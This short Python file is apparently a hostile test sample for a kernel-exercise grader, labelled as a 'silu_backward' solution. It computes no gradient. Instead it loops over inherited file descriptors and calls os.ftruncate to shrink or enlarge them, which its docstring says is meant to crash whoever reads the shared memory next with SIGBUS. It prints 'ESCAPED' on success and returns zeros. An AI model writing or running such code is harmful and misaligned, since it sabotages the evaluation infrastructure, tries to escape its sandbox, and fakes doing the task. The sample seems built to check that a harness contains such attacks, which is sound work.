# exercise: silu_backward
# backend: torch
# expect: nothing
"""Shrinks the shared memory, so that who reads it next dies of SIGBUS."""

import os

import torch


def silu_backward(dy, x):
    for file in range(3, 64):
        for size in (0, 1 << 40):
            try:
                os.ftruncate(file, size)
                print("ESCAPED", file, size)
            except OSError:
                pass
    return torch.zeros_like(x)
